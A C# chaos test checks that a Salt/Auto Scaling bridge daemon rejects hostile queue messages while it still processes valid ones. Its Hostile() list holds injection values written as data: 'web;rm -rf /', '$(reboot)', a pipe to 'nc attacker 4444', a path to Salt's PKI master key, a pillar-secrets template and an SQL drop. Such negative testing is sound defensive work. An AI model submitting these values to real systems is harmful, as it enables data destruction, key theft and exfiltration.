using System.Text;
using SaltApiBridge.Cli;
using SaltApiBridge.Tests.Fixtures;

namespace SaltApiBridge.Tests.Chaos;

/// <summary>
/// Hostile bodies through the real queue and daemon: glob and list characters, shell and template injection, path
/// escapes, look-alike and control characters, huge and deeply nested bodies, invalid UTF-8, wrong types. Each is
/// rejected with a logged reason and deleted; none reaches Salt or Auto Scaling; the valid messages around them
/// (a huge one among them) are processed as usual.
/// </summary>
[Collection(ChaosCollection.Name)]
public sealed class HostileMessageTests(FauxqsServer fauxqs)
{
    [Fact]
    public async Task Run_HostileMessagesAmongValidOnes_RejectedWithoutSideEffectsAndEveryInvariantHolds()
    {
        await using var run = new ChaosRun(fauxqs, "hostile");
        await run.CreateQueuesAsync(ChaosSettings.MaxReceiveCount, ChaosSettings.VisibilityTimeoutSeconds);
        var faults = new SaltFaultInjector(run.Salt, seed: 11, rate: 0, ChaosSettings.Stall);
        run.RefuseKey(ChaosMessages.MinionId(204));
        run.Salt.SetKey(ChaosMessages.MinionId(203), "minions");
        await using var daemon = await run.StartDaemonAsync();

        ChaosMessage[] valid =
        [
            ChaosMessages.Launch(200),
            ChaosMessages.Launch(201, format: 1),
            ChaosMessages.LaunchWithMetadata(202, 200 * 1024),
            ChaosMessages.Terminated(203),
            ChaosMessages.Launch(204, ChaosMessages.Abandon),
            ChaosMessages.TestNotification(205),
        ];
        var hostile = Hostile();
        var random = new Random(11);
        await run.SendAsync([.. hostile.Concat(valid).OrderBy(_ => random.Next())]);
        // Bytes that are not UTF-8, where the SDK could never put them: SQS takes the body as text and hands it on as U+FFFD.
        await run.SendRawAsync(ChaosMessages.Rejected("group name with invalid UTF-8", "(raw)"), RawHook([0x77, 0x65, 0x62, 0xFF, 0xFE, 0x2D, 0x61]));
        await run.SendRawAsync(ChaosMessages.Rejected("body that is invalid UTF-8 throughout", "(raw)"), [0xC3, 0x28, 0xA0, 0xA1, 0xE2, 0x28, 0xA1]);
        await run.UntilDrainedAsync(TimeSpan.FromSeconds(60));

        var record = await run.RecordAsync(daemon.Logs.Lines, faults);
        ChaosSettings.Report("hostile messages", ChaosRun.Summary(record, faults, run.Elapsed));
        ChaosInvariants.Check(record).Should().BeEmpty();
        record.DeadLetters.Should().BeEmpty("a hostile message is rejected at once, not retried into the dead-letter queue");
        record.SaltCalls.Select(c => c.MinionId).OfType<string>().Distinct().Should().BeEquivalentTo(
            [.. valid.Select(v => v.MinionId).OfType<string>()], "only the valid messages' minions are ever named to Salt");
    }

    private static List<ChaosMessage> Hostile()
    {
        var messages = new List<ChaosMessage>();
        void Add(string label, string body) => messages.Add(ChaosMessages.Rejected(label, body));
        string[] groups =
        [
            "\"*\"", "\"web-*\"", "\"web?\"", "\"[a-z]eb\"", "\"web,db\"", "\"web;rm -rf /\"", "\"$(reboot)\"", "\"`id`\"",
            "\"../../etc/salt/pki/master\"", "\"web asg\"", "\"web\\nasg\"", "\"{{ pillar['secrets'] }}\"", "\"{instance}\"",
            "\"w\u0435b-asg\"", "\"\\u202eweb\"", "\"web\\u0000\"", "\"web\\ud800\"", "\"-web\"", "\".\"", "\"web'; DROP TABLE keys;--\"",
            "\"web|nc attacker 4444\"", "\"web&\"", "\"web>out\"", "\"web\\\\asg\"",
        ];
        foreach (var group in groups)
            Add($"group {group}", ChaosMessages.HookWith(group: group));
        foreach (var instance in new[] { "\"i-*\"", "\"i-0123456789abcdef0,i-00000000000000001\"", "\"i-0123456789ABCDEF0\"", "\"i-../../x\"", "\"i-0123\"", "\"\"" })
            Add($"instance {instance}", ChaosMessages.HookWith(instance: instance));
        Add("hook name with a glob", ChaosMessages.HookWith(hook: "\"provision*\""));
        Add("token with a glob", ChaosMessages.HookWith(token: "\"tok*en\""));
        Add("token of 100 characters", ChaosMessages.HookWith(token: $"\"{new string('a', 100)}\""));
        Add("unknown transition", ChaosMessages.HookWith(transition: "\"autoscaling:EC2_INSTANCE_REBOOTING\""));

        // Wrong types.
        Add("group as a number", ChaosMessages.HookWith(group: "42"));
        Add("instance as an array", ChaosMessages.HookWith(instance: "[\"i-0000000000000c0de\"]"));
        Add("transition null", ChaosMessages.HookWith(transition: "null"));
        Add("token as an object", ChaosMessages.HookWith(token: "{}"));
        Add("hook as a boolean", ChaosMessages.HookWith(hook: "true"));
        foreach (var body in new[] { "[]", "\"a string\"", "42", "null", "{}", "true", "<html><body>not json</body></html>", "{\"LifecycleTransition\":", " " })
            Add($"body {body}", body);
        Add("SNS envelope whose Message is an object", """{"Type":"Notification","MessageId":"x","TopicArn":"arn:aws:sns:us-east-1:1:t","Message":{"LifecycleTransition":"x"}}""");
        Add("SNS envelope around a glob group", SampleMessages.InSnsEnvelope(ChaosMessages.HookWith(group: "\"*\""), "arn:aws:sns:us-east-1:123456789012:t", "0b7e3c9a-1f2d-4e5b-8a6c-7d9e1f3a5b7c"));
        Add("SNS envelope inside an SNS envelope", SampleMessages.InSnsEnvelope(SampleMessages.InSnsEnvelope(ChaosMessages.HookWith(), "arn:aws:sns:us-east-1:1:t", "a"), "arn:aws:sns:us-east-1:1:t", "b"));
        Add("EventBridge event with detail as a string", """{"version":"0","id":"x","detail-type":"EC2 Instance-launch Lifecycle Action","source":"aws.autoscaling","detail":"{}"}""");
        Add("EventBridge event from another source", SampleMessages.EventBridge("EC2 Instance-launch Lifecycle Action", "autoscaling:EC2_INSTANCE_LAUNCHING", "web-asg", "i-0000000000000c0de", "provision", "1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d").Replace("\"aws.autoscaling\"", "\"aws.ec2\"", StringComparison.Ordinal));

        // Deep and huge.
        Add("metadata nested 100 deep", ChaosMessages.HookWith(metadata: new string('[', 100) + new string(']', 100)));
        Add("body nested 5000 deep", string.Concat(Enumerable.Repeat("{\"a\":", 5000)) + "1" + new string('}', 5000));
        Add("group name of 200 000 characters", ChaosMessages.HookWith(group: $"\"{new string('w', 200_000)}\""));
        Add("body of 600 KiB", ChaosMessages.HookWith(metadata: $"\"{new string('m', 600 * 1024)}\""));
        return messages;
    }

    /// <summary>A launch hook whose group name is these bytes, JSON-escaped for the SQS request's MessageBody string.</summary>
    private static byte[] RawHook(byte[] group)
    {
        var hook = ChaosMessages.HookWith(group: "\"GROUP\"").Replace("\"", "\\\"", StringComparison.Ordinal);
        var at = hook.IndexOf("GROUP", StringComparison.Ordinal);
        return [.. Encoding.UTF8.GetBytes(hook[..at]), .. group, .. Encoding.UTF8.GetBytes(hook[(at + "GROUP".Length)..])];
    }
}
